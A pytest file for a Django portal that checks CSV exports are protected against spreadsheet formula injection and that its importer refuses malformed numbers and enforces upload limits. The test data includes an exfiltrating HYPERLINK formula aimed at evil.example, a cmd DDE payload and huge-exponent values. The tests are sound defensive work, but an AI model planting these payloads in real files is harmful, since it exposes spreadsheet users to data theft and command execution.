"""Issue 19, the CSV findings: every CSV the portal writes is spreadsheet-safe and reads back
unchanged, the importer reads numbers with the one grammar (progress.numbers), scales, and
follows progress.rules; the upload limit is one setting, the same in nginx.

Test data only (agencies called test-…), on the plan's real tree.
"""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.conf import settings
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from reversion.models import Revision

from plan.models import PlanNode
from progress import review
from progress.models import Agency, Indicator, ProgressUpdate, Responsibility
from progress.roles import AGENCY_EDITOR, REVIEWER
from progress.spreadsheets.importer import import_csv
from progress.spreadsheets.safe import cell, write_csv
from staff.models import AuditEvent

from .conftest import ROOT, SLUG
from .test_progress_csv import (
    STRATEGY,
    UPDATE_HEADER,
    export,
    failing_import,
    make_agencies,
    make_progress,
    rows_of,
    run_import,
    snapshot,
)
from .test_progress_export import IMPORT_URL, staff

FORMULAS = ["=1+2", "-5 公里", "@SUM(1)", "+886", "\tx", "\rx", "'quoted"]


@pytest.fixture
def agencies(db):
    return make_agencies()


@pytest.fixture
def progress(plan, agencies):
    return make_progress(plan, agencies)


def node(plan, ref):
    return PlanNode.objects.get(plan=plan, ref=ref)


def csv_text(rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def update_file(**cells):
    """An updates file of one row (the columns' defaults changed by `cells`)."""
    row = {
        "plan": SLUG,
        "ref": STRATEGY,
        "date": "2025-03-31",
        "status": "in_progress",
        "percent": "50",
        "summary_zh_hant": "測試摘要",
        "summary_en": "",
        "source": "https://example.org/s",
        "agency": "",
        "reason": "",
        "remedy": "",
        **cells,
    }
    return csv_text([list(row), list(row.values())])


def indicator_file(**cells):
    """An indicators file of one new indicator (the plan's term: 112–115)."""
    header = export("indicators").lstrip("\ufeff").split("\r\n")[0].split(",")
    row = dict.fromkeys(header, "")
    row.update(
        plan=SLUG,
        ref=STRATEGY,
        indicator="test-grammar",
        name_zh_hant="測試指標",
        direction="increase",
        source="https://example.org/i",
    )
    row.update(cells)
    return csv_text([header, [row[name] for name in header]])


# The writer: one rule for every CSV ----------------------------------------------------------


def test_formula_like_texts_get_one_apostrophe_numbers_and_dates_never():
    assert [cell(text) for text in FORMULAS] == ["'" + text for text in FORMULAS]
    assert cell("公里") == "公里" and cell("a=1") == "a=1" and cell("") == ""
    assert cell(Decimal(-5)) == "-5" and cell(-5) == "-5" and cell(Decimal("40.50")) == "40.5"
    assert cell(date(2025, 3, 31)) == "2025-03-31" and cell(None) == ""
    text = write_csv([["a", "b"], ["=1+2", Decimal("-5")]])
    assert text == "\ufeffa,b\r\n'=1+2,-5\r\n"


@pytest.fixture
def hostile(plan):
    """Published facts whose texts a spreadsheet would run, and negative numbers."""
    agency = Agency.objects.create(code="test-hostile", name_zh_hant="=1+2", name_en="@SUM(1)")
    Responsibility.objects.create(node=node(plan, STRATEGY), agency=agency, role="lead")
    published = {"state": "published", "published_at": timezone.now()}
    for n, (zh, en, source, reason, remedy) in enumerate(
        [
            ("=1+2", "@SUM(1)", "+886", "-5 公里", "\tx"),
            ("'quoted", "\rx", "-來源", "", ""),
            ('=HYPERLINK("http://evil.example/?"&A2,"Open")', "-", "@", "", ""),
        ]
    ):
        ProgressUpdate.objects.create(
            node=node(plan, STRATEGY),
            date=date(2024, 3, 31 - n),
            status="behind" if reason else "in_progress",
            percent=Decimal(10 * n),
            summary_zh_hant=zh,
            summary_en=en,
            source=source,
            agency=agency,
            reason=reason,
            remedy=remedy,
            **published,
        )
    Indicator.objects.create(
        node=node(plan, STRATEGY),
        key="test-hostile",
        name_zh_hant="=1+2",
        name_en="@SUM(1)",
        measure_zh_hant="\tx",
        unit_zh_hant="-5 公里",
        unit_en="+886",
        direction="decrease",
        baseline_year=111,
        baseline=Decimal(-5),
        values={"112": {"target": "-6", "actual": "-5.5", "source": "-來源"}},
        source='=HYPERLINK("http://evil.example/")',
        **published,
    )
    return agency


def test_export_neutralises_formulas_and_imports_back_unchanged(hostile, tmp_path):
    files = {kind: export(kind) for kind in ("agencies", "responsibilities", "indicators")}
    files["updates"] = export("updates")
    updates = {row["summary_zh_hant"]: row for row in rows_of(files["updates"])}
    first = updates["'=1+2"]
    assert (first["summary_en"], first["source"]) == ("'@SUM(1)", "'+886")
    assert (first["reason"], first["remedy"]) == ("'-5 公里", "'\tx")
    assert first["date"] == "2024-03-31" and first["percent"] == "0"
    assert updates["''quoted"]["summary_en"] == "'\rx"
    assert updates['\'=HYPERLINK("http://evil.example/?"&A2,"Open")']["summary_en"] == "'-"
    (indicator,) = rows_of(files["indicators"])
    assert indicator["baseline"] == "-5"  # a number: never an apostrophe
    assert (indicator["target_112"], indicator["actual_112"]) == ("-6", "-5.5")
    assert indicator["source_112"] == "'-來源" and indicator["unit_zh_hant"] == "'-5 公里"
    assert indicator["name_zh_hant"] == "'=1+2" and indicator["measure_zh_hant"] == "'\tx"
    (agency,) = rows_of(files["agencies"])
    assert (agency["name_zh_hant"], agency["name_en"]) == ("'=1+2", "'@SUM(1)")
    # Read back: every row unchanged, every stored value the same.
    before = snapshot()
    for kind, text in files.items():
        out, _ = run_import(tmp_path, text.lstrip("\ufeff"), name=f"{kind}.csv")
        rows = len(rows_of(text))
        assert f"new 0, changed 0, unchanged {rows}" in out, (kind, out)
    assert snapshot() == before


def test_public_downloads_are_spreadsheet_safe(client, hostile, plan):
    def rows(url):
        response = client.get(url)
        assert response.status_code == 200
        return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))

    summaries = [row["summary_zh_hant"] for row in rows(f"/data/{SLUG}/updates.csv")]
    assert "'=1+2" in summaries and "=1+2" not in summaries
    assert all(not s.startswith(("=", "+", "-", "@")) for s in summaries)
    (agency,) = rows(f"/data/{SLUG}/agencies.csv")
    assert agency["name_zh_hant"] == "'=1+2"
    # The plan's own CSV: a title a spreadsheet would run.
    PlanNode.objects.filter(plan=plan, ref=STRATEGY).update(title_en="=cmd|' /C calc'!A0")
    by_ref = {row["ref"]: row for row in rows(f"/data/{SLUG}.csv")}
    assert by_ref[STRATEGY]["title_en"] == "'=cmd|' /C calc'!A0"


def test_a_hostile_username_is_neutralised_in_the_audit_export(client, db):
    hostile = '=HYPERLINK("http://evil.example/?"&A2,"Open")'
    client.post("/admin/login/", {"username": hostile, "password": "wrong"})
    assert AuditEvent.objects.filter(kind="login_failed", username=hostile).exists()
    boss = User.objects.create_superuser("boss", password="Boss-password-2026")
    client.force_login(boss)
    response = client.get("/admin/staff/auditevent/export.csv")
    assert response.status_code == 200
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    usernames = [row[1] for row in rows[1:]]
    assert "'" + hostile in usernames and hostile not in usernames
    # The time is a typed value: written as it was, never with an apostrophe.
    assert all(re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d$", r[0]) for r in rows[1:])


# One number grammar ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "column", "value", "says"),
    [
        ("updates", "percent", "1e999999999", "is not a number"),  # decimal.Overflow: a 500
        ("updates", "percent", "1e4300", "is not a number"),
        ("indicators", "baseline", "1e400000", "is not a number"),
        ("indicators", "target_112", "1e-999999", "is not a number"),  # a million zeros
        ("updates", "percent", "٥٥", "is not a number"),  # Arabic-Indic digits, read as 55
        ("updates", "percent", "5_0", "is not a number"),
        ("indicators", "baseline", "12345678901234", "at most 11 digits before"),
        ("indicators", "target_113", "12345678901234", "at most 11 digits before"),  # stored
        ("indicators", "actual_112", "1.23456", "too many decimals: at most 3"),  # stored
        ("indicators", "weight", "12345", "at most 4 digits before"),
        ("updates", "percent", "55.55", "too many decimals: at most 1"),  # never rounded
    ],
)
def test_numbers_outside_the_grammar_are_refused_by_row_and_column(
    plan, agencies, tmp_path, kind, column, value, says
):
    content = (
        update_file(**{column: value}) if kind == "updates" else indicator_file(**{column: value})
    )
    before = snapshot()
    summary, err = failing_import(tmp_path, content)
    assert "1 個錯誤" in summary and "1 error(s)" in summary, err
    zh, en = err.strip().split(" / ")
    assert zh.startswith(f"第 2 列「{column}」欄：「{value}」"), zh
    assert en.startswith(f"Row 2, column “{column}”: “{value}”"), en
    assert says in en
    assert snapshot() == before


def test_the_upload_preview_refuses_an_enormous_exponent(client, progress):
    reviewer = staff("reviewer", REVIEWER)
    client.force_login(reviewer)
    upload = SimpleUploadedFile(
        "updates.csv", update_file(percent="1e999999999").encode(), content_type="text/csv"
    )
    response = client.post(IMPORT_URL, {"file": upload})
    assert response.status_code == 200
    assert "Row 2, column “percent”: “1e999999999” is not a number" in response.content.decode()


def test_full_width_digits_and_a_spaced_percent_sign_are_read(plan, agencies, tmp_path):
    run_import(tmp_path, update_file(percent="55 %"))
    assert ProgressUpdate.objects.get(summary_zh_hant="測試摘要").percent == Decimal(55)
    run_import(tmp_path, indicator_file(baseline="１２３", target_112="１，２３４．５"))
    indicator = Indicator.objects.get(key="test-grammar")
    assert indicator.baseline == Decimal(123)
    assert indicator.values["112"]["target"] == "1234.5"


def test_after_an_import_of_extreme_values_every_page_and_download_works(
    client, plan, agencies, tmp_path
):
    run_import(
        tmp_path,
        indicator_file(
            baseline="-99,999,999,999.999",
            target_112="99999999999.999",
            actual_112="0.001",
            target_113="-0",
            weight="9999.99",
        ),
        "--publish",
    )
    run_import(tmp_path, update_file(percent="100"), "--publish")
    for url in (
        f"/data/{SLUG}.json",
        f"/{SLUG}/{STRATEGY}/",
        f"/en/{SLUG}/{STRATEGY}/",
        f"/data/{SLUG}/indicators.csv",
        f"/data/{SLUG}/updates.csv",
        f"/{SLUG}/",
    ):
        assert client.get(url).status_code == 200, url
    (row,) = rows_of(export("indicators"))
    assert (row["baseline"], row["target_112"], row["actual_112"]) == (
        "-99999999999.999",
        "99999999999.999",
        "0.001",
    )


def test_a_value_an_older_import_stored_is_exported_as_it_is(plan):
    """The old importer stored 1e999999999 as a target; printing it as a plain decimal
    would write a billion digits."""
    Indicator.objects.create(
        node=node(plan, STRATEGY),
        key="test-legacy",
        name_zh_hant="舊資料",
        direction="increase",
        values={"112": {"target": "1e999999999"}, "113": {"target": "1E+2"}},
        state="published",
        published_at=timezone.now(),
    )
    (row,) = rows_of(export("indicators"))
    assert (row["target_112"], row["target_113"]) == ("1e999999999", "100")


# Scale -------------------------------------------------------------------------------------


def test_the_check_reads_the_database_a_fixed_number_of_times(plan, agencies, tmp_path):
    """Matching by keys in one pass: the queries a check makes do not grow with the file or
    with what is stored (the old importer compared every new row with every stored update:
    100 s for 5,000 rows against 5,000; speed itself is bench/import_bench.py's)."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    transport, _ = agencies
    target = node(plan, STRATEGY)

    def check(stored, rows):
        ProgressUpdate.objects.all().delete()
        ProgressUpdate.objects.bulk_create(
            ProgressUpdate(
                node=target,
                date=date(2020, 1, 1),
                status="in_progress",
                percent=Decimal(n % 100),
                summary_zh_hant=f"測試 {n}",
                source=f"來源 {n}",
                agency=transport,
                state="published",
                published_at=timezone.now(),
            )
            for n in range(stored)
        )
        lines = export("updates").lstrip("\ufeff").split("\r\n")
        new = [
            f"{SLUG},{STRATEGY},2025-01-01,in_progress,{n % 100},新 {n},,來源 {n},,,,"
            for n in range(rows)
        ]
        content = "\r\n".join([lines[0], *lines[1 : rows + 1], *new]) + "\r\n"
        with CaptureQueriesContext(connection) as queries:
            result = import_csv(content.encode(), dry_run=True)
        assert not result.problems, result.errors[:3]
        assert result.counts == {"new": rows, "changed": 0, "unchanged": rows}
        return len(queries)

    assert check(stored=20, rows=10) == check(stored=2000, rows=1000)


# The rules of progress.rules ------------------------------------------------------------------


def test_an_agency_editor_names_only_their_own_agency_as_the_reporter(progress, tmp_path):
    transport, housing = progress
    editor = staff("editor", AGENCY_EDITOR)
    transport.editors.add(editor)  # transport leads the strategy, housing supports it
    before = snapshot()
    result = import_csv(update_file(agency="test-housing").encode(), user=editor)
    assert not result.applied
    (problem,) = result.problems
    assert (problem.row, problem.column) == (2, "agency")
    assert "填報機關只能是您所屬的機關" in problem.zh and "test-housing" in problem.zh
    assert problem.en.startswith("name one of your own agencies as the reporter")
    assert snapshot() == before
    result = import_csv(update_file(agency="test-transport").encode(), user=editor)
    assert result.applied and result.counts["new"] == 1
    # A stored update reported by the other agency may stay in their file unchanged, but
    # they may not change it under that agency's name.
    other = ProgressUpdate.objects.create(
        node=node(progress[0].responsibilities.first().node.plan, STRATEGY),
        date=date(2024, 9, 30),
        status="in_progress",
        percent=Decimal(30),
        summary_zh_hant="協辦機關的進度",
        source="https://example.org/h",
        agency=housing,
        state="published",
        published_at=timezone.now(),
    )
    row = f"{SLUG},{STRATEGY},2024-09-30,in_progress,30,協辦機關的進度,,https://example.org/h,test-housing,,,{other.pk}"
    header = UPDATE_HEADER + ",update_id"
    result = import_csv(f"{header}\r\n{row}\r\n".encode(), user=editor)
    assert result.counts["unchanged"] == 1 and not result.problems
    result = import_csv(f"{header}\r\n{row.replace(',30,', ',35,')}\r\n".encode(), user=editor)
    assert [(p.row, p.column) for p in result.problems] == [(2, "agency")]


def test_a_withdrawn_update_cannot_be_imported_again(progress, tmp_path):
    reviewer = staff("reviewer", REVIEWER)
    text = export("updates").lstrip("\ufeff")
    behind = ProgressUpdate.objects.get(summary_zh_hant="測試：落後")
    review.withdraw(behind, reviewer, "數字有誤")
    before = snapshot()
    _, err = failing_import(tmp_path, text)
    (line,) = err.strip().splitlines()
    zh, en = line.split(" / ")
    assert zh.startswith("第 2 列「update_id」欄：") and f"編號 {behind.pk} 的進度已撤回" in zh
    assert "數字有誤" in zh and "不能再匯入" in zh
    assert en.startswith(f"Row 2, column “update_id”: update {behind.pk} was withdrawn")
    # Without its id, the same row is that withdrawn update too.
    without_id = re.sub(r",\d+\r\n", ",\r\n", text)
    _, err = failing_import(tmp_path, without_id)
    assert f"update {behind.pk} was withdrawn" in err
    assert snapshot() == before
    behind.refresh_from_db()
    assert behind.state == "withdrawn"


def test_publishing_from_the_importer_is_the_review_rule(progress, tmp_path):
    reviewer = staff("reviewer", REVIEWER)
    rows = rows_of(export("updates"))
    row = next(r for r in rows if r["percent"] == "40.5")
    row["percent"] = "45"
    content = csv_text([list(row), list(row.values())])
    revisions = Revision.objects.count()
    result = import_csv(content.encode(), publish=True, user=reviewer)
    assert result.applied and result.counts["changed"] == 1
    old = ProgressUpdate.objects.get(pk=row["update_id"])
    new = ProgressUpdate.objects.get(supersedes=old)
    assert (old.state, new.state) == ("superseded", "published")
    assert new.reviewed_by == reviewer and new.submitted_by == reviewer
    assert new.published_at is not None
    # One revision for the whole import, with both revisions of the update in it.
    assert Revision.objects.count() == revisions + 1
    revision = Revision.objects.latest("pk")
    assert revision.comment.startswith("Imported updates from CSV") and revision.user == reviewer
    assert {v.object_id for v in revision.version_set.all()} >= {str(old.pk), str(new.pk)}


def test_an_agency_editor_may_not_publish_or_import_agencies(progress):
    transport, _ = progress
    editor = staff("editor", AGENCY_EDITOR)
    transport.editors.add(editor)
    result = import_csv(update_file().encode(), publish=True, user=editor)
    assert [p.en for p in result.problems] == ["only reviewers may publish at once"]
    assert "只有審核人員可以直接發布" in result.errors[0]
    result = import_csv(b"code,name_zh_hant,name_en,url\r\ntest-x,X,,\r\n", user=editor)
    assert [p.en for p in result.problems] == ["you may not import agencies files"]
    assert not Agency.objects.filter(code="test-x").exists()


# The upload limit ------------------------------------------------------------------------------


def test_a_too_large_upload_gets_the_message_on_the_import_page(client, progress):
    reviewer = staff("reviewer", REVIEWER)
    client.force_login(reviewer)
    limit = settings.PROGRESS_UPLOAD_MAX_MB
    assert limit == 2
    body = update_file().encode() + b"#" * (limit * 1024 * 1024)
    before = snapshot()
    response = client.post(
        IMPORT_URL, {"file": SimpleUploadedFile("big.csv", body, content_type="text/csv")}
    )
    assert response.status_code == 200
    assert (
        response.context["form_error"] == f"檔案過大（上限 {limit} MB）。"
    )  # the admin's language
    assert "result" not in response.context and "token" not in response.context
    assert snapshot() == before
    assert f"{limit} MB" in client.get(IMPORT_URL).content.decode()


def nginx_admin_body_limit():
    """client_max_body_size as it applies to the admin's location in deploy/nginx.conf: the
    location's own, else the server's (in megabytes)."""
    conf = re.sub(r"#[^\n]*", "", (ROOT / "deploy" / "nginx.conf").read_text())
    server = conf[conf.index("server {") :]
    admin = re.search(r"location\s+/admin/\s*\{([^}]*)\}", server)
    outside = server[: admin.start()] + server[admin.end() :]
    outside = re.sub(r"location[^{]*\{[^}]*\}", "", outside)
    found = re.findall(r"client_max_body_size\s+(\d+)([kKmM]?);", admin.group(1))
    found = found or re.findall(r"client_max_body_size\s+(\d+)([kKmM]?);", outside)
    assert len(found) == 1, found
    number, unit = found[0]
    return int(number) / {"k": 1024, "m": 1, "": 1024 * 1024}[unit.lower()]


def test_nginx_takes_the_same_upload_limit_and_has_its_own_page():
    assert nginx_admin_body_limit() == settings.PROGRESS_UPLOAD_MAX_MB
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE == settings.PROGRESS_UPLOAD_MAX_MB * 1024 * 1024
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE == settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    conf = (ROOT / "deploy" / "nginx.conf").read_text()
    assert re.search(r"^\s*error_page 413 /static/errors/413\.html;", conf, re.MULTILINE)
    page = (ROOT / "static" / "errors" / "413.html").read_text()
    assert f"{settings.PROGRESS_UPLOAD_MAX_MB} MB" in page
    assert "檔案太大" in page and "File too large" in page and '<section lang="en">' in page
    # CSP-clean: nothing inline.
    assert "<script" not in page and "<style" not in page and not re.search(r"\sstyle=", page)
